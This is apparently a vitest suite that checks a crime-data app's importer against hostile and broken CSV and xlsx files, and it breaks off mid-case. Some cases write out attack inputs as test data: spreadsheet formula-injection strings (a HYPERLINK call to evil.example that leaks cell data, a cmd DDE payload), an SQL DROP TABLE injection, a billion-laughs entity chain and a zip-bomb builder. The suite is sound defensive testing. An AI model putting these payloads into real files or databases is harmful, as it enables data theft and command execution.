// Hostile and broken files: every file of the corpus (generated in corpus.ts) is imported
// through the engine's own worker thread, as the app and browser mode import, under a time
// limit. Each must end as its case says: a correct import (its figures checked against what
// the generator wrote) or a clean refusal (an error naming the file, and the row and column
// where they apply, with the workspace file byte-for-byte as it was). Never a crash, a hang,
// a partial import or a changed workspace.
import { copyFileSync, existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Worker } from 'node:worker_threads';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ErrorCode } from '../../src/shared/errors';
import type { ImportFileResult, ImportOptions } from '../../src/shared/importing';
import { importFile } from '../../src/core/importers/importFile';
import { openWorkspace, type Workspace } from '../../src/core/store/workspace';
import {
  cleanupTempDirs,
  monthlyTotals,
  nonZero,
  scalar,
  sha256File,
  tableCounts,
  tempDir,
  walExists,
} from '../support/workspace';
import {
  bowTie,
  circle,
  encode,
  fakeVbaProject,
  featureCollection,
  incidentTruth,
  months,
  mpsBoroughTable,
  mpsWardTable,
  policeUkTable,
  repeatedDeflate,
  serialOf,
  toCsv,
  wideTruth,
  xlsx,
  xlsxParts,
  zip,
  type Ring,
  type Table,
  type XCell,
} from './corpus';
import { figuresDir, recordFigures, type Figure } from './figures';

/** The import worker setup.ts bundles (importWorker.ts): the engine's importFiles in a thread of its own. */
const workerFile = path.join(figuresDir, 'import-worker.mjs');
/** No file may take longer than this, whatever it holds. */
const TIME_LIMIT_MS = 20_000;

// ---------------------------------------------------------------------------------------
// What each case must end in.

interface Imported {
  outcome: 'imported';
  /** Checks the figures in the workspace (opened after the import, closed after the check). */
  check(ws: Workspace, r: ImportFileResult): void;
}
interface Refused {
  outcome: 'refused';
  code: ErrorCode;
  row?: number;
  column?: string;
  message: RegExp;
}
interface Case {
  id: string;
  file: string;
  /** What makes the file hostile or broken. */
  what: string;
  bytes: () => Buffer;
  options?: ImportOptions;
  expect: Imported | Refused;
  /** Most files are refused or read at once; a few big ones get longer. */
  seconds?: number;
  /**
   * A known shortfall in code this suite may not change: the case states what must happen, runs
   * as an expected failure (it.fails) and counts as failed in the figures until it is fixed.
   */
  known?: string;
}

const refused = (
  code: ErrorCode,
  message: RegExp,
  where: { row?: number; column?: string } = {},
): Refused => ({ outcome: 'refused', code, message, ...where });

// ---------------------------------------------------------------------------------------
// Checks of figures.

const datasetIdOf = (ws: Workspace, importId: number) =>
  scalar(ws.db, 'SELECT dataset_id FROM imports WHERE id = ?', importId);

/** A wide file's figures: every month's total over every area, and the rows stored. */
function wideFigures(t: Table, extra?: (ws: Workspace, r: ImportFileResult) => void): Imported {
  const truth = wideTruth(t);
  return {
    outcome: 'imported',
    check(ws, r) {
      expect(r.rowsStored).toBe(truth.rows);
      const totals = monthlyTotals(ws.db, { dataset: datasetIdOf(ws, r.importId!), importId: r.importId! });
      expect(nonZero(totals.all)).toEqual(
        nonZero(new Map(Object.entries(truth.byMonth).map(([m, v]) => [Number(m), v]))),
      );
      expect(scalar(ws.db, 'SELECT sum(count) FROM all_monthly_counts WHERE import_id = ?', r.importId)).toBe(
        truth.total,
      );
      extra?.(ws, r);
    },
  };
}

/** A police.uk file's figures: rows, rows per crime type and per month, rows without a place. */
function incidentFigures(t: Table, extra?: (ws: Workspace, r: ImportFileResult) => void): Imported {
  const truth = incidentTruth(t);
  return {
    outcome: 'imported',
    check(ws, r) {
      expect(r.rowsStored).toBe(truth.rows);
      expect(scalar(ws.db, 'SELECT count(*) FROM incidents WHERE import_id = ?', r.importId)).toBe(
        truth.rows,
      );
      const byType = ws.db
        .prepare(
          'SELECT c.minor AS type, count(*) AS n FROM incidents i JOIN categories c ON c.id = i.category_id WHERE i.import_id = ? GROUP BY c.minor',
        )
        .all(r.importId) as { type: string; n: number }[];
      expect(Object.fromEntries(byType.map((x) => [x.type, x.n]))).toEqual(truth.byType);
      const byMonth = ws.db
        .prepare('SELECT month, count(*) AS n FROM incidents WHERE import_id = ? GROUP BY month')
        .all(r.importId) as { month: number; n: number }[];
      expect(
        Object.fromEntries(
          byMonth.map((x) => [`${Math.floor(x.month / 100)}-${String(x.month % 100).padStart(2, '0')}`, x.n]),
        ),
      ).toEqual(truth.byMonth);
      expect(
        scalar(ws.db, 'SELECT count(*) FROM incidents WHERE import_id = ? AND lsoa_id IS NULL', r.importId),
      ).toBe(truth.withoutLsoa);
      extra?.(ws, r);
    },
  };
}

const locationsOf = (ws: Workspace, importId: number) =>
  (
    ws.db
      .prepare(
        'SELECT DISTINCT l.description AS d FROM incidents i JOIN locations l ON l.id = i.location_id WHERE i.import_id = ?',
      )
      .all(importId) as { d: string }[]
  ).map((x) => x.d);

/** A mapped sheet's figures: total and per month. */
function mappedFigures(
  byMonth: Record<number, number>,
  rows: number,
  extra?: (ws: Workspace, r: ImportFileResult) => void,
): Imported {
  return {
    outcome: 'imported',
    check(ws, r) {
      expect(r.rowsStored).toBe(rows);
      const totals = monthlyTotals(ws.db, { dataset: datasetIdOf(ws, r.importId!), importId: r.importId! });
      expect(nonZero(totals.all)).toEqual(
        nonZero(new Map(Object.entries(byMonth).map(([m, v]) => [Number(m), v]))),
      );
      extra?.(ws, r);
    },
  };
}

// ---------------------------------------------------------------------------------------
// The corpus's tables, mutated one hostile way each.

const mps = () => mpsBoroughTable(months(201701, 6));
const police = (rows = 60) => policeUkTable(rows, '2018-03');
const withCell = (t: Table, row: number, col: number, value: string): Table =>
  t.map((r, i) => (i === row ? r.map((c, j) => (j === col ? value : c)) : r));
const withHeader = (t: Table, col: number, value: string) => withCell(t, 0, col, value);
const text = (t: Table, style?: Parameters<typeof toCsv>[1]) => Buffer.from(toCsv(t, style), 'utf8');

/** Police rows whose text needs more than ASCII: smart quotes, a pound sign, an accent. */
function policeWithText(): Table {
  const t = police(40);
  t[3]![6] = 'On or near “The Café”';
  t[5]![6] = 'On or near St Mary’s Passage';
  t[7]![11] = 'Theft of £250 – reported late';
  return t;
}
/** The exact texts stored: locations and contexts, as the generator wrote them. */
const expectText =
  (locations: string[], contexts: string[] = []) =>
  (ws: Workspace, r: ImportFileResult) => {
    const stored = locationsOf(ws, r.importId!);
    for (const l of locations) expect(stored).toContain(l);
    const storedContexts = (
      ws.db
        .prepare('SELECT context FROM incidents WHERE import_id = ? AND context IS NOT NULL')
        .all(r.importId) as { context: string }[]
    ).map((x) => x.context);
    for (const c of contexts) expect(storedContexts).toContain(c);
  };

// xlsx sheets for mapped imports: Ward, then months across.
const MAPPED_ACROSS: ImportOptions = {
  mapping: { area: 'Ward', monthsAcrossColumns: true, categoryValue: 'Burglary' },
};
/** Ward names that are unique in London's ward sets, so a mapped sheet's names match without doubt. */
const WARDS = ['Headstone North', 'Headstone South', 'Stanmore Park', 'Wealdstone', 'Centenary'];
function acrossSheet(
  monthList: number[],
  date1904 = false,
  seed = 5,
): { rows: XCell[][]; byMonth: Record<number, number> } {
  const byMonth: Record<number, number> = {};
  const rows: XCell[][] = [['Ward', ...monthList.map((m) => ({ serial: serialOf(m, date1904) }))]];
  WARDS.forEach((w, i) => {
    rows.push([
      w,
      ...monthList.map((m, j) => {
        const v = ((i + 1) * (j + seed)) % 17;
        byMonth[m] = (byMonth[m] ?? 0) + v;
        return v;
      }),
    ]);
  });
  return { rows, byMonth };
}

const sheetHead = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Ward</t></is></c><c r="B1" t="inlineStr"><is><t>Jan-17</t></is></c></row>',
);
const sheetUnitRow = '<row><c t="inlineStr"><is><t>Headstone North</t></is></c><c><v>1</v></c></row>';
const sheetUnit = Buffer.from(sheetUnitRow.repeat(Math.floor(1_048_576 / sheetUnitRow.length)));
const sheetTail = Buffer.from('</sheetData></worksheet>');
/** A workbook whose one sheet is 200 MB of rows, deflated to well under 1 MB; `declared` makes its headers lie. */
function bombBook(declared?: number): Buffer {
  const parts = xlsxParts({ sheets: [{ name: 'Data', rows: [] }] });
  const sheet = parts.find((p) => p.name === 'xl/worksheets/sheet1.xml')!;
  delete sheet.data;
  sheet.deflated = repeatedDeflate(sheetHead, sheetUnit, 200, sheetTail);
  sheet.declaredSize = declared;
  return zip(parts);
}

// ---------------------------------------------------------------------------------------

const cases: Case[] = [
  // Encodings and byte-order marks.
  {
    id: 'utf16le-bom-mps',
    file: 'MPS borough UTF-16.csv',
    what: 'an MPS borough file saved as "Unicode Text": UTF-16 little-endian with a BOM',
    bytes: () => encode(toCsv(mps()), 'utf16le-bom'),
    expect: wideFigures(mps()),
  },
  {
    id: 'utf16be-bom-policeuk',
    file: '2018-03-city-of-london-street utf16be.csv',
    what: 'a police.uk file in UTF-16 big-endian with a BOM, with curly quotes and £ in its text',
    bytes: () => encode(toCsv(policeWithText()), 'utf16be-bom'),
    expect: incidentFigures(
      policeWithText(),
      expectText(['On or near “The Café”'], ['Theft of £250 – reported late']),
    ),
  },
  {
    id: 'utf16le-no-bom-policeuk',
    file: '2018-03-city-of-london-street utf16 no bom.csv',
    what: 'a police.uk file in UTF-16 little-endian without a BOM',
    bytes: () => encode(toCsv(police()), 'utf16le'),
    expect: incidentFigures(police()),
  },
  {
    id: 'cp1252-policeuk',
    file: '2018-03-city-of-london-street windows-1252.csv',
    what: 'a police.uk file saved by Excel on Windows as "CSV (Comma delimited)": Windows-1252, with £, smart quotes and é',
    bytes: () => encode(toCsv(policeWithText()), 'cp1252'),
    expect: incidentFigures(
      policeWithText(),
      expectText(
        ['On or near “The Café”', 'On or near St Mary’s Passage'],
        ['Theft of £250 – reported late'],
      ),
    ),
  },
  {
    id: 'cp1252-mps-ward',
    file: 'MPS ward windows-1252.csv',
    what: 'an MPS ward file in Windows-1252 with a curly apostrophe in a category name',
    bytes: () => encode(toCsv(withCell(mpsWardTable(), 1, 1, 'Burglary – Residential’s')), 'cp1252'),
    expect: wideFigures(withCell(mpsWardTable(), 1, 1, 'Burglary – Residential’s'), (ws, r) => {
      expect(scalar(ws.db, "SELECT count(*) FROM categories WHERE minor = 'Burglary – Residential’s'")).toBe(
        1,
      );
      expect(r.months.first).toBe('2020-09');
    }),
  },
  {
    id: 'utf8-bom-policeuk',
    file: '2018-03-city-of-london-street bom.csv',
    what: 'a police.uk file with a UTF-8 byte-order mark before "Crime ID"',
    bytes: () => encode(toCsv(police()), 'utf8-bom'),
    expect: incidentFigures(police()),
  },
  {
    id: 'utf8-then-cp1252-midfile',
    file: '2018-03-city-of-london-street mixed encodings.csv',
    what: 'a UTF-8 file (with "é" in UTF-8 at row 11) of 5,000 rows that turns to Windows-1252 at row 4,002, past the first bytes read',
    bytes: () => {
      const t = withCell(police(5000), 10, 6, 'On or near Café Row');
      const head = toCsv(t.slice(0, 4001), { eol: '\n' });
      const tail = toCsv(withCell(t.slice(4001), 0, 6, 'On or near Café Row'), { eol: '\n' });
      return Buffer.concat([encode(head, 'utf8'), encode(tail, 'cp1252')]);
    },
    expect: refused('bad-input', /not UTF-8 text/, { row: 4002 }),
  },
  {
    id: 'cp1252-late-first-pound',
    file: '2018-03-city-of-london-street late pound.csv',
    what: 'a Windows-1252 file whose first byte beyond ASCII (a £ in row 4,002) comes long after the first bytes read',
    bytes: () => encode(toCsv(latePound(), { eol: '\n' }), 'cp1252'),
    expect: incidentFigures(latePound(), expectText([], ['Damage to a £40 bicycle lock'])),
  },
  // Line endings, quotes, delimiters.
  {
    id: 'mixed-crlf-lf-mps',
    file: 'MPS mixed line endings.csv',
    what: 'an MPS file whose rows end in CRLF and LF by turns (pasted together from two sources)',
    bytes: () => text(mps(), { eol: (i) => (i % 2 ? '\n' : '\r\n') }),
    expect: wideFigures(mps()),
  },
  {
    id: 'lone-cr-mps',
    file: 'MPS stray CR.csv',
    what: 'an MPS file with CRLF line endings and one row ended by a lone CR (an old Mac line break)',
    bytes: () => text(mps(), { eol: (i) => (i === 5 ? '\r' : '\r\n') }),
    expect: refused('bad-input', /line break/, { row: 6 }),
  },
  {
    id: 'quoted-newlines-policeuk',
    file: '2018-03-city-of-london-street quoted newlines.csv',
    what: 'police.uk rows whose quoted cells hold line breaks (LF and CRLF), commas and doubled quotes',
    bytes: () => text(quotedNewlines()),
    expect: incidentFigures(
      quotedNewlines(),
      expectText(
        ['On or near Bishopsgate,\nnear "the arch"', 'On or near\r\nLondon Wall'],
        ['Reported, then\nwithdrawn'],
      ),
    ),
  },
  {
    id: 'semicolon-mps',
    file: 'MPS semicolons.csv',
    what: 'an MPS file saved with European settings: cells separated by ";"',
    bytes: () => text(withCell(mps(), 2, 2, 'Theft, Handling; Other'), { delimiter: ';' }),
    expect: wideFigures(withCell(mps(), 2, 2, 'Theft, Handling; Other'), (ws) => {
      expect(scalar(ws.db, "SELECT count(*) FROM categories WHERE minor = 'Theft, Handling; Other'")).toBe(1);
    }),
  },
  {
    id: 'tab-policeuk',
    file: '2018-03-city-of-london-street tabs.csv',
    what: 'a police.uk file with tab-separated cells (Excel\'s "Text (Tab delimited)" renamed .csv)',
    bytes: () => text(policeWithText(), { delimiter: '\t' }),
    expect: incidentFigures(
      policeWithText(),
      expectText(['On or near “The Café”'], ['Theft of £250 – reported late']),
    ),
  },
  {
    id: 'quoted-thousands-mps',
    file: 'MPS thousands.csv',
    what: 'an MPS file with quoted counts written with thousands separators ("1,234")',
    bytes: () => text(withCell(withCell(mps(), 4, 5, '1,234'), 9, 3, '12,001')),
    expect: wideFigures(withCell(withCell(mps(), 4, 5, '1234'), 9, 3, '12001')),
  },
  // Ragged rows.
  {
    id: 'ragged-short-policeuk',
    file: '2018-03-city-of-london-street cut short.csv',
    what: 'a police.uk file whose row 31 stops after the Location cell',
    bytes: () => text(police().map((r, i) => (i === 30 ? r.slice(0, 7) : r))),
    expect: refused('bad-input', /cut short/, { row: 31, column: 'LSOA code' }),
  },
  {
    id: 'ragged-long-policeuk',
    file: '2018-03-city-of-london-street unquoted comma.csv',
    what: 'a police.uk row with an unquoted comma in its Location, which shifts every cell after it',
    bytes: () =>
      Buffer.from(
        toCsv(withCell(police(), shiftedRow(), 6, 'On or near Moorgate, Harrow')).replace(
          '"On or near Moorgate, Harrow"',
          'On or near Moorgate, Harrow',
        ),
      ),
    expect: refused('bad-input', /not an LSOA code/, { row: shiftedRow() + 1, column: 'LSOA code' }),
  },
  {
    id: 'ragged-long-mps',
    file: 'MPS unquoted comma.csv',
    what: 'an MPS row with an unquoted comma in its minor category, which moves its counts one month on',
    bytes: () =>
      Buffer.from(
        toCsv(withCell(mps(), 9, 2, 'Making, Supplying')).replace('"Making, Supplying"', 'Making, Supplying'),
      ),
    expect: refused('bad-input', /expected a count|more cells than the header/, { row: 10 }),
  },
  {
    id: 'ragged-trailing-empty-mps',
    file: 'MPS trailing commas.csv',
    what: 'an MPS file whose rows end in empty cells past the header (trailing commas, as Excel leaves them)',
    bytes: () => text(mps().map((r, i) => (i === 0 ? r : [...r, '', '']))),
    expect: wideFigures(mps()),
  },
  // Sizes.
  {
    id: 'huge-field-10mb-policeuk',
    file: '2018-03-city-of-london-street huge cell.csv',
    what: 'a police.uk file whose row 41 holds a 10 MB Location cell',
    bytes: () => text(withCell(police(), 40, 6, 'x'.repeat(10 * 1024 * 1024))),
    expect: refused('bad-input', /characters of text/, { row: 41, column: 'Location' }),
  },
  {
    id: 'huge-field-row2-mps',
    file: 'MPS huge first row.csv',
    what: 'an MPS file whose first data row holds a 10 MB quoted cell (past the bytes read to recognise the file)',
    bytes: () => text(withCell(mps(), 1, 2, 'y,'.repeat(5 * 1024 * 1024))),
    expect: refused('bad-input', /row 2 runs on/, { row: 2 }),
  },
  {
    id: 'columns-100k-policeuk',
    file: '2018-03-city-of-london-street 100k columns.csv',
    what: 'a police.uk header followed by 99,988 more columns (100,000 in all), and rows as wide',
    bytes: () => {
      const extra = Array.from({ length: 100_000 - 12 }, (_, i) => `x${i}`);
      const t = police(3).map((r, i) => [...r, ...(i === 0 ? extra : extra.map(() => ''))]);
      return text(t);
    },
    expect: refused('bad-input', /at most 16,384/, { row: 1 }),
  },
  {
    id: 'columns-20k-mps',
    file: 'MPS 20k columns.csv',
    what: 'an MPS header with 20,000 columns that fits the bytes read to recognise it',
    bytes: () =>
      text(
        mps().map((r, i) => [
          ...r,
          ...Array.from({ length: 20_000 - r.length }, (_, j) => (i === 0 ? `c${j}` : '')),
        ]),
      ),
    expect: refused('bad-input', /at most 16,384/, { row: 1 }),
  },
  // Months.
  {
    id: 'duplicate-month-columns-mps',
    file: 'MPS month twice.csv',
    what: 'an MPS file with the month 201703 as two columns',
    bytes: () => text(withHeader(mps(), 6, '201703')),
    expect: refused('bad-input', /201703.*twice|twice.*201703/, { row: 1, column: '201703' }),
  },
  {
    id: 'duplicate-month-columns-mapped',
    file: 'partner months twice.xlsx',
    what: 'a partner sheet, months across, with Feb-17 in two columns',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 4));
      rows[0]![4] = { serial: serialOf(201702) };
      return xlsx({ sheets: [{ name: 'Burglary', rows }] });
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /2017-02.*twice|twice.*2017-02/, { row: 1 }),
  },
  {
    id: 'far-future-month-mps',
    file: 'MPS month 290001.csv',
    what: 'an MPS file with a month column headed 290001 (the year 2900)',
    bytes: () => text(withHeader(mps(), 8, '290001')),
    expect: refused('bad-input', /290001/, { row: 1, column: '290001' }),
  },
  {
    id: 'future-month-policeuk',
    file: '2199-01-city-of-london-street.csv',
    what: 'a police.uk file whose rows are for 2199-01, a month that has not happened',
    bytes: () => text(policeUkTable(20, '2199-01')),
    expect: refused('bad-input', /2199-01/, { row: 2, column: 'Month' }),
  },
  // Counts.
  {
    id: 'count-nan-mps',
    file: 'MPS NaN.csv',
    what: 'an MPS count cell holding NaN',
    bytes: () => text(withCell(mps(), 7, 4, 'NaN')),
    expect: refused('bad-input', /expected a count/, { row: 8, column: '201702' }),
  },
  {
    id: 'count-1e309-mps',
    file: 'MPS 1e309.csv',
    what: 'an MPS count cell holding 1e309 (infinity as a double)',
    bytes: () => text(withCell(mps(), 3, 5, '1e309')),
    expect: refused('bad-input', /expected a count/, { row: 4, column: '201703' }),
  },
  {
    id: 'count-fraction-mps',
    file: 'MPS 2.5.csv',
    what: 'an MPS count cell holding 2.5',
    bytes: () => text(withCell(mps(), 12, 3, '2.5')),
    expect: refused('bad-input', /whole number/, { row: 13, column: '201701' }),
  },
  {
    id: 'count-too-large-mps',
    file: 'MPS 4294967297.csv',
    what: 'an MPS count of 4,294,967,297 (2^32 + 1: would wrap round to 1 in a 32-bit store)',
    bytes: () => text(withCell(mps(), 2, 6, '4294967297')),
    expect: refused('bad-input', /too large/, { row: 3, column: '201704' }),
  },
  {
    id: 'count-negative-xlsx',
    file: 'partner negative.xlsx',
    what: 'a partner sheet whose count cell is the number -3',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 3));
      rows[3]![2] = -3;
      return xlsx({ sheets: [{ name: 'Burglary', rows }] });
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /negative/, { row: 4, column: '2017-02' }),
  },
  {
    id: 'count-fraction-xlsx',
    file: 'partner fraction.xlsx',
    what: 'a partner sheet whose count cell is the number 2.5',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 3));
      rows[2]![3] = 2.5;
      return xlsx({ sheets: [{ name: 'Burglary', rows }] });
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /whole number/, { row: 3, column: '2017-03' }),
  },
  {
    id: 'empty-cells-policeuk',
    file: '2018-03-city-of-london-street blanks.csv',
    what: 'police.uk rows with empty Crime ID, coordinates, LSOA, outcome and context cells',
    bytes: () => text(policeBlanks()),
    expect: incidentFigures(policeBlanks(), (ws, r) => {
      expect(
        scalar(ws.db, 'SELECT count(*) FROM incidents WHERE import_id = ? AND longitude IS NULL', r.importId),
      ).toBe(
        policeBlanks()
          .slice(1)
          .filter((x) => x[4] === '').length,
      );
    }),
  },
  {
    id: 'empty-counts-mapped',
    file: 'partner blanks.csv',
    what: 'a partner sheet (long layout) with empty count cells',
    bytes: () =>
      Buffer.from(
        'Ward,Month,Count\r\nHeadstone North,Jan-17,3\r\nHeadstone South,Jan-17,\r\nWealdstone,Feb-17,5\r\nCentenary,Feb-17,\r\n',
      ),
    options: { mapping: { area: 'Ward', month: 'Month', count: 'Count', categoryValue: 'Burglary' } },
    expect: mappedFigures({ 201701: 3, 201702: 5 }, 4, (_ws, r) =>
      expect(r.warnings.join(' ')).toMatch(/2 blank count cells were read as no crimes/),
    ),
  },
  {
    id: 'formula-text-policeuk',
    file: '2018-03-city-of-london-street formulas.csv',
    what: 'police.uk cells holding spreadsheet formulas and SQL (=HYPERLINK, =cmd|, DROP TABLE): stored as plain text',
    bytes: () => text(formulaText()),
    expect: incidentFigures(
      formulaText(),
      expectText(
        ['=HYPERLINK("http://evil.example/?"&A1,"x")', "On or near '); DROP TABLE incidents;--"],
        ["=cmd|' /C calc'!A0"],
      ),
    ),
  },
  // Workbooks.
  {
    id: 'xlsx-declared-4gb',
    file: 'partner declares 4 GB.xlsx',
    what: 'a small workbook whose zip directory says its sheet is 4 GB',
    bytes: () =>
      zip(
        xlsxParts({ sheets: [{ name: 'Data', rows: acrossSheet(months(201701, 3)).rows }] }).map((p) =>
          p.name === 'xl/worksheets/sheet1.xml' ? { ...p, declaredSize: 0xfffffff0 } : p,
        ),
      ),
    options: MAPPED_ACROSS,
    expect: refused('too-large', /too large to read safely/),
  },
  {
    id: 'xlsx-zip-bomb-200mb',
    file: 'partner bomb.xlsx',
    what: 'a zip bomb: a sheet of 200 MB of rows deflated to under 1 MB, sizes declared truthfully',
    bytes: () => bombBook(),
    options: MAPPED_ACROSS,
    expect: refused('too-large', /too large to read safely/),
  },
  {
    id: 'xlsx-zip-bomb-lying',
    file: 'partner lying bomb.xlsx',
    what: 'a zip bomb that lies: its 200 MB sheet declares 5,000 bytes',
    bytes: () => bombBook(5000),
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /damaged|more than it declares/),
  },
  {
    id: 'xlsm-macros',
    file: 'partner with macros.xlsm',
    what: 'a macro-enabled workbook (.xlsm) whose VBA project would run a shell command on open',
    bytes: () =>
      xlsx({
        sheets: [{ name: 'Burglary', rows: acrossSheet(months(201701, 3)).rows }],
        vba: fakeVbaProject(),
      }),
    options: MAPPED_ACROSS,
    expect: mappedFigures(acrossSheet(months(201701, 3)).byMonth, WARDS.length),
  },
  {
    id: 'xlsx-formulas-cached',
    file: 'partner formulas.xlsx',
    what: 'count cells holding formulas (=1/0, =WEBSERVICE(…), =B2*1000) with saved values: the saved values are read, nothing is evaluated',
    bytes: () => xlsx({ sheets: [{ name: 'Burglary', rows: formulaSheet().rows }] }),
    options: MAPPED_ACROSS,
    expect: mappedFigures(formulaSheet().byMonth, WARDS.length),
  },
  {
    id: 'xlsx-formula-uncached',
    file: 'partner formula never calculated.xlsx',
    what: 'a count cell holding a formula with no saved value (as scripts write them): it must not read as 0',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 3));
      rows[2]![2] = { f: 'SUM(B2:B5)' };
      return xlsx({ sheets: [{ name: 'Burglary', rows }] });
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /formula/, { row: 3, column: '2017-02' }),
  },
  {
    id: 'xlsx-error-value',
    file: 'partner div0.xlsx',
    what: 'a count cell holding a formula whose saved value is the error #DIV/0!: it must not read as blank or 0',
    bytes: () => {
      const book = xlsxParts({ sheets: [{ name: 'Burglary', rows: acrossSheet(months(201701, 3)).rows }] });
      const sheet = (x: string) =>
        x.replace(/<c r="C4"><v>\d+<\/v><\/c>/, '<c r="C4" t="e"><f>B4/0</f><v>#DIV/0!</v></c>');
      return zip(
        book.map((p) =>
          p.name === 'xl/worksheets/sheet1.xml'
            ? { ...p, data: Buffer.from(sheet(p.data!.toString('utf8'))) }
            : p,
        ),
      );
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /#DIV\/0!/, { row: 4, column: '2017-02' }),
  },
  {
    id: 'xlsx-1904-dates',
    file: 'partner 1904 dates.xlsx',
    what: 'a workbook in the 1904 date system (old Mac Excel) with months as date cells',
    bytes: () =>
      xlsx({
        date1904: true,
        sheets: [{ name: 'Burglary', rows: acrossSheet(months(201701, 3), true).rows }],
      }),
    options: MAPPED_ACROSS,
    expect: mappedFigures(acrossSheet(months(201701, 3), true).byMonth, WARDS.length, (_ws, r) =>
      expect([r.months.first, r.months.last]).toEqual(['2017-01', '2017-03']),
    ),
  },
  {
    id: 'xlsx-hidden-first-sheet',
    file: 'partner hidden sheet.xlsx',
    what: 'a workbook whose first sheet is hidden (a lookup of other figures); the analyst sees only the second',
    bytes: () =>
      xlsx({
        sheets: [
          { name: 'lookup', state: 'hidden', rows: acrossSheet(months(201701, 3), false, 11).rows },
          { name: 'Burglary', rows: acrossSheet(months(201701, 3)).rows },
        ],
      }),
    options: MAPPED_ACROSS,
    expect: mappedFigures(acrossSheet(months(201701, 3)).byMonth, WARDS.length),
  },
  {
    id: 'xlsx-merged-title',
    file: 'partner merged title.xlsx',
    what: 'a sheet with a merged title row above the header and a merged note cell beside it',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 3));
      return xlsx({
        sheets: [
          {
            name: 'Burglary',
            rows: [['Burglary by ward, Harrow', null, null, null], ...rows],
            merges: ['A1:D1'],
          },
        ],
      });
    },
    options: { mapping: { ...MAPPED_ACROSS.mapping!, headerRow: 2 } },
    expect: mappedFigures(acrossSheet(months(201701, 3)).byMonth, WARDS.length),
  },
  {
    id: 'xlsx-merged-month-header',
    file: 'partner merged months.xlsx',
    what: 'a header whose month cell is merged across two columns, so the second column has no month but holds counts',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 3));
      rows[0]![3] = null;
      return xlsx({ sheets: [{ name: 'Burglary', rows, merges: ['C1:D1'] }] });
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /no month/, { row: 2, column: 'column 4' }),
  },
  {
    id: 'xlsx-dimension-lies',
    file: 'partner declared range.xlsx',
    what: 'a small sheet whose <dimension> declares the whole grid, A1:XFD1048576',
    bytes: () =>
      xlsx({
        sheets: [{ name: 'Burglary', rows: acrossSheet(months(201701, 3)).rows, dimension: 'A1:XFD1048576' }],
      }),
    options: MAPPED_ACROSS,
    expect: mappedFigures(acrossSheet(months(201701, 3)).byMonth, WARDS.length),
  },
  {
    id: 'xlsx-stray-far-cell',
    file: 'partner stray cell.xlsx',
    what: 'a small sheet with one stray cell at XFD1048576, the last cell of the grid',
    bytes: () => {
      const book = xlsxParts({ sheets: [{ name: 'Burglary', rows: acrossSheet(months(201701, 3)).rows }] });
      const stray = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>';
      return zip(
        book.map((p) =>
          p.name === 'xl/worksheets/sheet1.xml'
            ? { ...p, data: Buffer.from(p.data!.toString('utf8').replace('</sheetData>', stray)) }
            : p,
        ),
      );
    },
    options: MAPPED_ACROSS,
    expect: mappedFigures(acrossSheet(months(201701, 3)).byMonth, WARDS.length, (_ws, r) =>
      expect(r.rowsRejected).toBe(1),
    ),
  },
  {
    id: 'xlsx-billion-laughs',
    file: 'partner entities.xlsx',
    what: 'sheet XML with a DOCTYPE of nested entities ("billion laughs"): never expanded',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 3));
      const parts = xlsxParts({ sheets: [{ name: 'Burglary', rows }] });
      const laughs =
        '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
        Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join(
          '',
        ) +
        ']>';
      const lol = '<row r="7"><c r="A7" t="inlineStr"><is><t>Note &lol9;</t></is></c></row></sheetData>';
      return zip(
        parts.map((p) =>
          p.name === 'xl/worksheets/sheet1.xml'
            ? {
                ...p,
                data: Buffer.from(
                  p.data!.toString('utf8').replace('?>\n', `?>\n${laughs}`).replace('</sheetData>', lol),
                ),
              }
            : p,
        ),
      );
    },
    options: MAPPED_ACROSS,
    expect: mappedFigures(acrossSheet(months(201701, 3)).byMonth, WARDS.length, (_ws, r) => {
      // The note row names no ward: rejected and listed, its entity never expanded.
      expect(r.rowsRejected).toBe(1);
      expect(r.unmatchedNames.map((u) => u.name.length)).toEqual([expect.any(Number)]);
      expect(r.unmatchedNames[0]!.name.length).toBeLessThan(100);
    }),
  },
  {
    id: 'xlsx-huge-shared-cell',
    file: 'partner huge cell.xlsx',
    what: 'a sheet with a 10 MB text cell in the ward column',
    bytes: () => {
      const { rows } = acrossSheet(months(201701, 3));
      rows[4]![0] = 'z'.repeat(10 * 1024 * 1024);
      return xlsx({ sheets: [{ name: 'Burglary', rows }] });
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /characters of text/, { row: 5, column: 'column A' }),
  },
  {
    id: 'xlsx-truncated',
    file: 'partner truncated.xlsx',
    what: 'a workbook cut off half-way (an interrupted download)',
    bytes: () => {
      const b = xlsx({ sheets: [{ name: 'Burglary', rows: acrossSheet(months(201701, 3)).rows }] });
      return b.subarray(0, Math.floor(b.length / 2));
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /cut short or damaged/),
  },
  {
    id: 'xlsx-encrypted',
    file: 'partner password.xlsx',
    what: 'a password-protected workbook (an OLE container, not a zip)',
    bytes: () =>
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(504),
        Buffer.from('EncryptionInfo EncryptedPackage'),
      ]),
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /password|\.xls/),
  },
  {
    id: 'xlsx-broken-xml',
    file: 'partner broken xml.xlsx',
    what: 'a workbook whose sheet XML stops in the middle of a tag',
